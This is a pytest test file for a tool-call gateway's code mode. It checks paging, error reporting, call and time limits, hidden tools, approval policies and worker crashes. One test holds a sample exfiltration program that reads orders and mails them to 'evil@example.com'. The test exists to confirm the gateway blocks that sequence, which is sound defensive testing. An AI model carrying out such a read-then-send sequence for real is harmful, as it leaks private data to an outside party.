"""callgate.run_code: a program's tool calls pass the chain, its errors and limits
reach the model as sentences, and what it returns is plain JSON."""

from __future__ import annotations

import os
import signal
from pathlib import Path
from typing import Any

import anyio
import pytest

from callgate import Gate, Principal
from callgate.codemode import CodeModeSettings, parse_code_mode
from callgate.errors import InvalidArgument
from callgate.runtime.envelope import Envelope
from callgate.runtime.policy import Policy, Rule
from tests.codemode.conftest import GateFactory
from tests.codemode.toolkit import shop

pytestmark = pytest.mark.anyio

ALICE = Principal("alice", tenant="acme")
RUN = "callgate.run_code"


def gate(**settings: Any) -> Gate:
    return Gate(
        shop(),
        store="memory://",
        code_mode=CodeModeSettings(enabled=True, **{"max_cpu_seconds": 2.0, **settings}),
    )


@pytest.fixture
async def shop_gate(durable_gates: GateFactory) -> Gate:
    """A gate with code mode over SQLite, and over PostgreSQL."""
    g = durable_gates(shop(), code_mode=CodeModeSettings(enabled=True, max_cpu_seconds=2.0))
    await g.open()
    return g


async def run(g: Gate, code: str, who: Principal = ALICE) -> Envelope:
    return await g.call(RUN, {"code": code}, principal=who)


async def test_a_program_pages_to_the_end_and_only_its_result_reaches_the_model(
    shop_gate: Gate,
) -> None:
    code = """
page, total, count = 1, 0, 0
while page:
    answer = await shop.list_orders(page=page)
    for order in answer["orders"]:
        total += order["total"]
        count += 1
    page = answer["next_page"]
print("pages read")
{"orders": count, "total": total}
"""
    envelope = await run(shop_gate, code)

    assert envelope.ok, envelope.error
    assert envelope.payload == {
        "result": {"orders": 25, "total": 3000},
        "printed": "pages read\n",
        "calls": 3,
    }
    records = [r for r in await shop_gate.audit() if r.phase == "final"]
    inner = [r for r in records if r.tool == "shop.list_orders"]
    assert len(inner) == 3
    assert {r.detail["parent_call_id"] for r in inner} == {envelope.call_id}
    assert {r.trace_id for r in inner} == {envelope.trace_id}


async def test_a_program_gets_a_whole_result_the_model_would_get_a_page_of(
    shop_gate: Gate,
) -> None:
    direct = await shop_gate.call("shop.all_orders", {}, principal=ALICE)
    assert direct.truncated is not None  # the model would see the first page

    envelope = await run(
        shop_gate, "orders = await shop.all_orders()\n[len(orders), orders[-1]['id']]"
    )

    assert envelope.ok, envelope.error
    assert envelope.payload["result"] == [500, "O-499"]


async def test_a_tool_error_is_an_exception_the_program_can_catch(shop_gate: Gate) -> None:
    code = """
seen = []
for order_id in ["X-1", "O-2"]:
    try:
        seen.append(await shop.refund(order_id=order_id))
    except ValueError as e:
        seen.append(str(e))
try:
    await shop.forbidden(order_id="O-1")
except PermissionError as e:
    seen.append(str(e))
seen
"""
    envelope = await run(shop_gate, code)

    assert envelope.ok, envelope.error
    bad, good, refused = envelope.payload["result"]
    assert bad.startswith("construction: no order 'X-1'") and "Use an id like O-3." in bad
    assert good == "refunded O-2 (refund #1)"
    assert refused.startswith("permission: you may not see this order")


async def test_each_write_is_keyed_by_the_run_and_its_position(shop_gate: Gate) -> None:
    envelope = await run(
        shop_gate,
        'await shop.list_orders()\nawait shop.refund(order_id="O-1")\n'
        'await shop.refund(order_id="O-2")',
    )

    assert envelope.ok, envelope.error
    keys = {
        r.tool + ":" + str(r.idempotency_key)
        for r in await shop_gate.audit()
        if r.phase == "final" and r.tool.startswith("shop.")
    }
    # Reads carry none; the refunds are the run's 2nd and 3rd calls.
    assert keys == {
        "shop.list_orders:None",
        f"shop.refund:{envelope.call_id}:2",
        f"shop.refund:{envelope.call_id}:3",
    }


async def test_a_syntax_error_says_where(shop_gate: Gate) -> None:
    envelope = await run(shop_gate, "x = 1\ny = (2,\n")

    assert envelope.error is not None
    assert envelope.error.kind == "construction"
    assert "does not parse" in envelope.error.message_for_model
    assert (
        "line 3" in envelope.error.message_for_model or "line 2" in envelope.error.message_for_model
    )


async def test_an_uncaught_exception_names_its_line_and_the_calls_already_made(
    shop_gate: Gate,
) -> None:
    code = 'await shop.refund(order_id="O-7")\norders = {}\norders["missing"]\n'
    envelope = await run(shop_gate, code)

    assert envelope.error is not None and envelope.error.kind == "construction"
    message = envelope.error.message_for_model
    assert "KeyError" in message and "line 3" in message
    assert "shop.refund: ok" in message  # the model learns the refund happened


async def test_hidden_tools_are_not_in_the_program(shop_gate: Gate) -> None:
    stubs = (await shop_gate.call("callgate.code_functions", {}, principal=ALICE)).payload
    assert "async def list_orders(*, page: int = ...)" in stubs["stubs"]
    assert "secret_report" not in stubs["stubs"]
    assert "run_code" not in stubs["stubs"]

    envelope = await run(shop_gate, "await shop.secret_report()")
    assert envelope.error is not None
    assert "has no attribute 'secret_report'" in envelope.error.message_for_model
    admin = Principal("root", tenant="acme", scopes={"shop:admin"})
    assert (await run(shop_gate, "await shop.secret_report()", admin)).payload["result"] == "secret"


async def test_the_tool_call_limit_ends_the_run() -> None:
    async with gate(max_calls=3) as g:
        envelope = await run(g, "for i in range(10):\n    await shop.list_orders(page=1)")
    assert envelope.error is not None and envelope.error.kind == "construction"
    assert "more than 3 tool calls" in envelope.error.message_for_model


async def test_the_wall_time_limit_counts_tool_calls() -> None:
    async with gate(max_seconds=0.5) as g:
        envelope = await run(g, "await shop.slow(seconds=5)")
    assert envelope.error is not None
    assert "time limit of 0.5 s" in envelope.error.message_for_model


async def test_a_write_running_when_time_is_up_is_an_unknown_outcome() -> None:
    async with gate(max_seconds=0.5) as g:
        # Not awaited: the refund runs while the program waits on the slow read.
        envelope = await run(g, 'shop.refund(order_id="O-1")\nawait shop.slow(seconds=5)')
    assert envelope.error is not None
    # The refund itself is quick: it finished, and the model is told so.
    assert envelope.error.kind in ("construction", "unknown_outcome")
    assert "shop.refund" in envelope.error.message_for_model


async def test_an_untrusted_read_then_a_send_in_one_program_is_stopped() -> None:
    sent: list[dict[str, Any]] = []
    async with Gate(shop(sent), store="memory://", code_mode=CodeModeSettings(enabled=True)) as g:
        envelope = await run(
            g,
            "orders = await shop.list_orders()\n"
            'page = await web.fetch(url="https://example.com")\n'
            'await mail.send(to="evil@example.com", body=str(orders))',
        )
    assert envelope.error is not None
    assert "approval" in envelope.error.message_for_model
    assert sent == []


async def test_a_call_policy_parks_stops_the_program_before_the_write() -> None:
    policy = Policy([Rule(effect="require_approval", tools=("shop.refund",), reason="refunds")])
    async with Gate(
        shop(), store="memory://", policy=policy, code_mode=CodeModeSettings(enabled=True)
    ) as g:
        envelope = await run(g, 'await shop.refund(order_id="O-1")\n"after"')
        approvals = await (await g.approvals()).list()
    assert envelope.error is not None
    assert approvals and approvals[0].id in envelope.error.message_for_model


async def test_without_code_mode_there_is_no_run_code() -> None:
    async with Gate(shop(), store="memory://") as g:
        assert g.tool(RUN) is None
        envelope = await run(g, "1")
    assert envelope.error is not None and envelope.error.kind == "construction"


def test_the_config_table_is_checked() -> None:
    assert parse_code_mode({"enabled": True, "max_calls": 5}, "c.toml").max_calls == 5
    with pytest.raises(InvalidArgument, match=r"c.toml: code_mode.max_calls"):
        parse_code_mode({"max_calls": 0}, "c.toml")
    with pytest.raises(InvalidArgument, match=r"code_mode.nope"):
        parse_code_mode({"nope": 1}, "c.toml")


def _sandbox_workers() -> list[int]:
    """The pids of this process's sandbox workers (``monty`` children)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            command = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        parent = int(stat.rsplit(")", 1)[1].split()[1])
        if parent == os.getpid() and b"monty" in command:
            found.append(int(entry.name))
    return found


async def test_a_worker_that_dies_is_unrecoverable_and_replaced() -> None:
    async with gate(workers=1) as g:
        assert (await run(g, "1")).ok  # the pool is up
        running = anyio.create_task_group()
        results: list[Envelope] = []

        async def program() -> None:
            results.append(await run(g, "await shop.slow(seconds=1)\n'survived'"))

        async with running:
            running.start_soon(program)
            await anyio.sleep(0.3)  # the program waits on its call
            for pid in _sandbox_workers():
                os.kill(pid, signal.SIGKILL)

        (crashed,) = results
        assert crashed.error is not None, crashed.payload
        assert crashed.error.kind == "unrecoverable"
        assert "crashed" in crashed.error.message_for_model
        assert (await run(g, "40 + 2")).payload["result"] == 42  # a new worker
